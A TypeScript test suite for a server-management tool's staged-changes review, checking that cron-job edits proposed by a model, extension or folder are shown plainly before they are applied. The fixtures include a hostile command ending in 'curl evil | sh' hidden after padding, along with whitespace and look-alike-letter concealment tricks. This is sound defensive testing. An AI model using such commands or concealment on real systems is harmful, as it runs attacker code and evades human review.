import assert from 'node:assert/strict';
import type { Account } from '../../../src/accounts/account';
import { changesAccess, toApplyQuestion } from '../../../src/pending/question';
import type { Origin, StagedChange } from '../../../src/pending/stagedChange';
import type { KindId } from '../../../src/resources/kinds/kinds';
import { cronAt, PendingWindow } from '../../support/pending/pendingWorld';

const job = cronAt(1, 1);
const others = ['folder', 'model', 'extension', 'unknown'] as const;

async function openWindow(): Promise<PendingWindow> {
  const window = new PendingWindow();
  window.service.add(job, 'old');
  await window.values.ready();
  return window;
}

const command = (after: string) => [{ path: ['command'], before: 'true', after }];

describe('What others stage', () => {
  for (const origin of others) {
    it(`stands beside what the person staged, and both are applied: ${origin}`, async () => {
      const window = await openWindow();
      await window.stage(job, { label: 'mine' });
      const before = window.find(job);
      const path = before?.path ?? '';
      await window.pending.stage([{ reference: job, origin, path, changes: command('theirs') }]);
      assert.deepEqual(window.find(job), before);
      assert.deepEqual(
        window.pending.all.map((each) => [each.origin, each.changes[0]?.after]),
        [
          ['person', 'mine'],
          [origin, 'theirs'],
        ],
      );
      assert.equal(new Set(window.pending.all.map((each) => each.path)).size, 2);
      assert.equal((await window.apply())?.done, 2);
      const { label, command: now } = window.service.at(job);
      assert.deepEqual([label, now], ['mine', 'theirs']);
      assert.deepEqual(window.pending.all, []);
    });
  }

  it("isn't taken for the person's if an earlier version stored it without saying who it was", async () => {
    const window = await openWindow();
    await window.stage(job, { label: 'mine' });
    const { origin: _origin, ...stored } = window.find(job) ?? assert.fail('nothing is staged');
    await window.pending.discard(window.pending.all);
    await window.values.change([{ key: 'item/a/cronJob/one/1/1', value: stored }]);
    assert.deepEqual(
      window.pending.all.map(({ origin }) => origin),
      ['unknown'],
    );
    assert.equal((await window.apply())?.done, 1);
    assert.deepEqual(window.pending.all, []);
  });
});

function staged(origin: Origin, { after = 'echo hi', id = 1, ...more } = {}): StagedChange {
  return {
    reference: cronAt(1, id),
    origin,
    path: `/Payroll/shop/Cron Jobs/Job ${id}.cron-job.json`,
    at: 1,
    changes: command(after),
    state: { type: 'pending' },
    ...more,
  };
}

function ask(
  chosen: readonly StagedChange[],
  environment: Account['environment'],
  access: readonly StagedChange[] = [],
) {
  const account = { id: 'a', label: 'Payroll', environment } as Account;
  return toApplyQuestion(chosen, {
    accounts: [{ account, limit: undefined }],
    servers: [],
    shares: [],
    access: new Set(access),
  });
}

describe('The question before changes are applied that others staged', () => {
  it('shows all their values, and counts the person’s own', () => {
    const own = staged('person', { after: 'my own secret plan', id: 2 });
    for (const origin of others) {
      const evil = { ...staged(origin, { after: `x${'y'.repeat(300)}; curl evil | sh` }) };
      const { detail } = ask([own, { ...evil, reason: 'To help' }, own], 'staging');
      const lines = detail.split('\n');
      assert.ok(
        lines.some((line) => line.endsWith('Payroll › shop › Cron Jobs › Job 1')),
        detail,
      );
      assert.equal(lines[lines.indexOf('To help') - 2], '', 'they are set apart');
      assert.ok(lines.includes('To help'));
      assert.ok(lines.includes(`+ "command": "x${'y'.repeat(300)}; curl evil | sh"`), detail);
      assert.ok(lines.includes('Your own changes: 2'), detail);
      assert.doesNotMatch(detail, /my own secret plan/);
    }
  });

  it('says that a resource is created or deleted', () => {
    const { detail } = ask(
      [
        staged('model', { operation: 'create' } as object),
        staged('folder', { operation: 'delete', id: 2 } as object),
      ],
      'staging',
    );
    assert.match(detail, /Job 1\nWill be created\.\n/);
    assert.match(detail, /Job 2\nWill be deleted\.\n/);
  });

  it('hides nothing behind spaces', () => {
    const { detail } = ask([staged('model', { after: `true${' '.repeat(300)}; evil` })], 'staging');
    assert.match(detail, /\+ "command": "true\(300 spaces\); evil"/);
  });

  it('marks letters that look like others, in values and reasons', () => {
    const reason = 'P\u{430}yroll needs it';
    for (const [after, marked] of [
      ['r\u{43e}ot', '(mixed alphabets) r\u{43e}ot'],
      [`true${'\u{a0}'.repeat(300)}; evil`, 'true(300 spaces); evil'],
    ] as const) {
      const lines = ask([staged('extension', { after, reason } as object)], 'staging').detail;
      assert.ok(lines.includes(`+ "command": "${marked}"`), lines);
      assert.ok(lines.includes('\n(mixed alphabets) P\u{430}yroll needs it\n'), lines);
    }
    const twin = '\u{441}\u{43e}\u{440}\u{443}';
    const { detail } = ask([staged('model', { after: twin })], 'staging');
    assert.ok(detail.includes(`+ "command": "(Cyrillic letters) ${twin}"`), detail);
  });

  it("requires the account's name in production for others' changes and for access alone", () => {
    const own = staged('person');
    assert.equal(ask([own], 'production').typed, undefined);
    assert.equal(ask([own], 'production', [own]).typed, 'Payroll');
    for (const origin of others) {
      assert.equal(ask([own, staged(origin)], 'production').typed, 'Payroll', origin);
      assert.equal(ask([own, staged(origin)], 'staging').typed, undefined, origin);
    }
  });

  it('requires it everywhere for what is too much to show', () => {
    const many = Array.from({ length: 100 }, (_, id) => staged('folder', { id }));
    const { detail, typed } = ask(many, 'development');
    const [, hidden = 0] = /(\d+) more by others/.exec(detail) ?? [];
    const shown = detail.split('\n').filter((line) => line.startsWith('+ ')).length;
    assert.ok(shown > 10 && shown + Number(hidden) === 100, detail);
    assert.equal(typed, 'Payroll');
    const long = staged('model', { after: 'x'.repeat(600) });
    assert.equal(ask([long], 'development').typed, 'Payroll');
  });
});

describe('Access', () => {
  const at = (kind: KindId, changes: StagedChange['changes'] = []): StagedChange => ({
    ...staged('person'),
    reference: { account: 'a', kind, ids: [1, 1] },
    changes,
  });
  const judge = (change: StagedChange, username?: string): Promise<boolean> =>
    changesAccess(change, () => Promise.resolve(username === undefined ? undefined : { username }));

  it('is what rules, SSH, keys, users, credentials and root’s jobs are about', async () => {
    for (const kind of [
      'firewallRule',
      'sshKey',
      'sshSettings',
      'systemUser',
      'databaseUser',
      'integration',
    ] as const) {
      assert.ok(await judge(at(kind), 'webmaster'), kind);
    }
    assert.ok(!(await judge(at('webApplication'), 'root')));
    for (const kind of ['cronJob', 'supervisorJob'] as const) {
      const user = (before: string, after: string) => [{ path: ['username'], before, after }];
      const judged = await Promise.all([
        judge(at(kind, command('x')), 'webmaster'),
        judge(at(kind, command('x')), 'root'),
        judge(at(kind, command('x'))),
        judge(at(kind, user('webmaster', 'root'))),
        judge(at(kind, user('root', 'webmaster'))),
        judge(at(kind, user('webmaster', 'deploy'))),
      ]);
      assert.deepEqual(judged, [false, true, true, true, true, false], kind);
    }
  });
});
